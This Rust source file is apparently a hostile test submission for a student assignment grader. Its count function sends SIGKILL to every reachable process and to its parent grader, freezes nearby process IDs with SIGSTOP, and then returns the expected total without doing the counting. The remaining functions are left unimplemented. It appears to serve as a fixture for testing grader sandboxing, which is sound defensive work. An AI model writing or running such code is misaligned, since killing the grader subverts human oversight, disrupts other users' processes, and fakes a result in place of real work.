//! Hostile: signals every process it may (kill(-1)), its parent (the grader) and the process
//! groups around it, then prints the right total without counting. Under an ordinary user with
//! no confinement this killed the grader and the other students' runs.
use std::io::Write;
use std::path::Path;

use cli_support::Outcome;
use nix::libc;

pub fn count(workers: u32, iters: u64) -> Outcome<u64> {
    let parent = std::os::unix::process::parent_id() as libc::pid_t;
    // SAFETY: sending signals; the whole point of this program.
    unsafe {
        libc::kill(-1, libc::SIGKILL);
        libc::kill(parent, libc::SIGKILL);
        for pid in parent.saturating_sub(64)..parent.saturating_add(256) {
            if pid != libc::getpid() {
                libc::kill(pid, libc::SIGSTOP);
            }
        }
    }
    Ok(u64::from(workers) * iters)
}

pub fn send(_path: &Path, _message: &[u8]) -> Outcome {
    todo!("not attempted")
}

pub fn recv(_path: &Path, _out: &mut dyn Write) -> Outcome {
    todo!("not attempted")
}
